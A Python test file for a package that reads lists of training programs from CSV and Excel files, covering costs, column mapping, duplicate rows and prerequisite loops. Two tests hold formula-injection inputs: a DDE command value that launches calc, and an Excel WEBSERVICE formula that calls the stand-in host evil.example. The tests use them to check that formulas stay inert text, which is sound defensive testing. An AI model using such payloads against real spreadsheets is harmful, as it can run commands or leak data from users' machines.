"""Lists of learning as tables: columns told by their headings, rows read or named, nothing guessed."""

import zipfile
from datetime import date

import pytest
from learning_lists import (
    CALIFORNIA,
    CALIFORNIA_HEAD,
    NEW_YORK,
    NEW_YORK_HEAD,
    TEXAS_HEAD,
    plain,
    table,
    texan,
    texas,
)
from tiny_releases import xlsx

from pathways.errors import PathwaysError
from pathways.frameworks.learning.own import list_csv
from pathways.frameworks.learning.read import proposals_of, read_list

AS_OF = date(2026, 10, 1)


def only(content, **more):
    found = read_list(content, "list.csv", **more)
    assert not found.troubles
    (row,) = found.rows
    return row


def troubles(content):
    return [(one.row, one.field, one.code) for one in read_list(content, "list.csv").troubles]


def refused(content, name="list.csv", **more):
    with pytest.raises(PathwaysError) as error:
        read_list(content, name, **more)
    return error.value.code


def test_texas():
    found = read_list(texas(), "texas.csv", as_of=AS_OF)
    assert (found.kind, found.read, found.troubles) == ("table", 2, ())
    assistant, driver = (one.step for one in found.rows)
    assert (assistant.id, assistant.name, assistant.provider) == ("1001", "Medical Assistant", "Austin College")
    assert (assistant.cost.value, assistant.cost.year, assistant.weeks.value, assistant.hours.value) == (
        1450,
        2026,
        24,
        720,
    )
    assert (assistant.cip, assistant.offering.place, assistant.offering.credential) == ("51.0801", "Austin, TX", "Cert")
    assert (assistant.offering.as_of, assistant.offering.includes, assistant.online) == (AS_OF, "Total Cost", None)
    assert (driver.offering.place, driver.cost.value) == ("Dallas, TX", 4500)
    assert "Completion Rate" not in found.columns.values()


def test_california():
    row = only(table(CALIFORNIA_HEAD, CALIFORNIA))
    step = row.step
    assert (step.cost.value, step.offering.includes) == (2350.5, "Tuition + Books and Materials")
    assert (step.cip, row.occupations, step.online, step.weeks.value) == ("51.0801", ("31-9092",), False, 26)
    assert (step.offering.place, step.offering.page) == ("Fresno, CA", "https://fresno.example/ma")


def test_books_of_unknown_price_are_not_free():
    row = only(table(CALIFORNIA_HEAD, (*CALIFORNIA[:5], "n/a", *CALIFORNIA[6:])))
    assert (row.step.cost.value, row.step.offering.includes) == (2000, "Tuition")


@pytest.mark.parametrize(
    ("parts", "price", "partly"),
    [
        (("0", "200", "TBD"), None, True),
        (("1000", "", "50"), None, True),
        (("0", "", "0"), None, True),
        (("0", "200", "50"), 250, False),
        (("0", "0", "0"), 0, False),
        (("1000", "0", ""), 1000, False),
    ],
)
def test_a_price_told_in_parts_is_whole_or_unknown(parts, price, partly):
    named = dict(zip(("cost", "fees", "books"), parts, strict=True))
    found = read_list(plain({"name": "Welding", "provider": "School", **named}), "x.csv")
    assert [one.step.cost.value for one in found.rows] == [price]
    assert [one.code for one in found.troubles] == (["price_partly"] if partly else [])


def test_new_york():
    row = only(table(NEW_YORK_HEAD, NEW_YORK))
    step = row.step
    assert (step.cost.value, step.weeks.value, step.hours.value, step.online) == (0, 12, 240, True)
    assert (step.offering.language, step.offering.schedule) == ("es", "Mon/Wed 6–9 p.m.")
    assert step.offering.starts == (date(2027, 1, 11), date(2027, 3, 8))
    assert row.occupations == ("31-9092.00",)


def test_a_workbook_reads_as_its_table(tmp_path):
    rows = [("Texas list",), TEXAS_HEAD, texan(), texan(TWIST_Program_ID="2", Total_Cost=99.5)]
    xlsx(tmp_path / "a.xlsx", {"About": [("Read me",)], "Programs": rows})
    found = read_list((tmp_path / "a.xlsx").read_bytes(), "a.xlsx")
    assert [one.step.cost.value for one in found.rows] == [1450, 99.5]
    assert not found.troubles


def test_sheets_with_the_same_columns_are_one_list_and_others_are_named(tmp_path):
    health = [TEXAS_HEAD, texan()]
    trades = [("Trades",), TEXAS_HEAD, texan(TWIST_Program_ID="2"), texan(TWIST_Program_ID="3", Total_Cost=-1)]
    other = [("Program Name", "Provider"), ("Welding", "School")]
    xlsx(tmp_path / "a.xlsx", {"Health": health, "Trades": trades, "Old": other, "Empty": []})
    found = read_list((tmp_path / "a.xlsx").read_bytes(), "a.xlsx")
    assert [one.step.id for one in found.rows] == ["1001", "2", "3"]
    assert [(one.row, one.code, one.cell) for one in found.troubles] == [
        (1, "sheet_other", "Program Name | Provider"),
        (6, "price_negative", "-1"),
    ]


def test_a_workbooks_fault_is_no_name():
    content = table(TEXAS_HEAD, texan(Program_Name="#REF!"), texan(Provider_Name="#N/A"))
    found = read_list(content, "a.csv")
    assert [one.step.provider for one in found.rows] == [None]
    assert [(one.field, one.code) for one in found.troubles] == [("name", "name_bad"), ("provider", "text_bad")]


def test_a_person_corrects_the_columns():
    head = ("Thing", "Who", "Out of state", "In state tuition")
    content = table(head, ("Welding", "Trade School", "900", "300"))
    assert refused(content) == "learning_columns"
    assert proposals_of(content, "x.csv").lacking == ("name",)
    row = only(content, mapping={"name": "thing", "provider": "WHO", "cost": "Out of state"})
    assert (row.step.name, row.step.provider, row.step.cost.value) == ("Welding", "Trade School", 900)
    assert refused(content, mapping={"name": "Nothing"}) == "learning_no_such_column"
    assert refused(content, mapping={"nome": "Thing"}) == "learning_field_unknown"


def test_twin_headings_are_never_taken():
    content = table(("Program Name", "Provider", "Cost", "Cost"), ("Welding", "School", "1", "2"))
    found = proposals_of(content, "x.csv")
    assert (found.twins, found.mapping) == (("Cost", "Cost")[:1], {"name": "Program Name", "provider": "Provider"})
    assert only(content).step.cost.value is None
    assert refused(content, mapping={"name": "Program Name", "cost": "Cost"}) == "learning_heading_twice"


def test_rows_of_another_width_are_named_and_left_out():
    content = texas() + b"Source: the state\r\n" + b"," * 30 + b"x\r\n"
    found = read_list(content, "x.csv")
    assert len(found.rows) == 2
    assert [(one.row, one.code, one.left_out) for one in found.troubles] == [
        (5, "row_short", True),
        (6, "row_long", True),
    ]
    assert found.read == 4


def test_the_same_row_has_the_same_key_in_a_newer_list():
    old = plain({"name": "Welding", "provider": "School", "city": "Waco", "cost": "10", "starts": "2026-01-05"})
    new = plain(
        {"name": "First aid", "provider": "School"},
        {"name": "Welding", "provider": "School", "city": "Waco", "cost": "20", "starts": "2027-01-05"},
    )
    assert only(old).key in {one.key for one in read_list(new, "x.csv").rows}


def test_twins():
    one = {"name": "Welding", "provider": "School", "cost": "10", "starts": "2027-01-04"}
    twice = read_list(plain(one, one), "x.csv")
    assert (len(twice.rows), [t.code for t in twice.troubles]) == (1, ["row_twice"])
    other_day = read_list(plain(one, {**one, "starts": "2027-03-01"}), "x.csv")
    assert [r.step.offering.starts for r in other_day.rows] == [(date(2027, 1, 4), date(2027, 3, 1))]
    other_price = read_list(plain(one, {**one, "cost": "20"}), "x.csv")
    assert [r.step.cost.value for r in other_price.rows] == [10, 20]
    assert len({r.key for r in other_price.rows}) == 2
    at_odds = read_list(plain({**one, "id": "7"}, {**one, "id": "7", "cost": "20"}), "x.csv")
    assert (at_odds.rows, [t.code for t in at_odds.troubles]) == ((), ["row_differs", "row_differs"])


def test_steps_that_wait_for_each_other_are_named_and_left_out():
    rows = [
        {"id": "a", "name": "First", "provider": "S", "needs": "b"},
        {"id": "b", "name": "Second", "provider": "S", "needs": "Third"},
        {"id": "c", "name": "Third", "provider": "S", "needs": "a"},
        {"id": "d", "name": "Fourth", "provider": "S", "needs": "e; gone"},
        {"id": "e", "name": "Fifth", "provider": "S", "needs": ""},
    ]
    found = read_list(plain(*rows), "x.csv")
    assert {one.key: one.step.needs for one in found.rows} == {"d": ("e", "gone"), "e": ()}
    assert [(t.row, t.code) for t in found.troubles] == [
        (2, "needs_loop"),
        (3, "needs_loop"),
        (4, "needs_loop"),
        (5, "need_not_listed"),
    ]
    assert "First" in found.troubles[0].cell


def test_a_loop_through_a_step_of_several_places_is_named():
    rows = [
        {"id": "A~x", "name": "First in X", "provider": "S", "needs": "B"},
        {"id": "A~y", "name": "First in Y", "provider": "S", "needs": "B"},
        {"id": "B", "name": "Second", "provider": "S", "needs": "A"},
        {"id": "C~x", "name": "Third in X", "provider": "S", "needs": "D"},
        {"id": "C~y", "name": "Third in Y", "provider": "S", "needs": ""},
        {"id": "D", "name": "Fourth", "provider": "S", "needs": "C"},
    ]
    found = read_list(plain(*rows), "x.csv")
    told = [(one.row, one.code) for one in found.troubles]
    assert told == [(2, "needs_loop"), (4, "needs_loop")]
    assert "First in X" in found.troubles[0].cell
    assert {one.step.id for one in found.rows} >= {"C~x", "C~y", "D"}


def test_formulas_stay_text_and_are_harmless_when_written_again():
    name = "=cmd|' /C calc'!A0"
    row = only(plain({"name": name, "provider": "@SUM(A1)", "cost": "5"}))
    assert (row.step.name, row.step.provider) == (name, "@SUM(A1)")
    written = list_csv([row])
    assert b"'=cmd" in written
    assert b"'@SUM" in written
    assert only(written).step.name == name


def test_a_formula_in_a_workbook_is_what_the_sheet_showed(tmp_path):
    xlsx(tmp_path / "a.xlsx", {"A": [("Program Name", "Provider"), ("Welding", "School")]})
    with zipfile.ZipFile(tmp_path / "a.xlsx") as book:
        parts = {name: book.read(name) for name in book.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert b"<t>School</t>" in sheet or b"School" in sheet
    at = sheet.rindex(b"<c ")
    parts["xl/worksheets/sheet1.xml"] = (
        sheet[:at]
        + b'<c r="B2" t="str"><f>WEBSERVICE("https://evil.example")</f><v>Shown</v></c></row></sheetData></worksheet>'
    )
    with zipfile.ZipFile(tmp_path / "b.xlsx", "w") as book:
        for part, data in parts.items():
            book.writestr(part, data)
    assert only((tmp_path / "b.xlsx").read_bytes()).step.provider == "Shown"
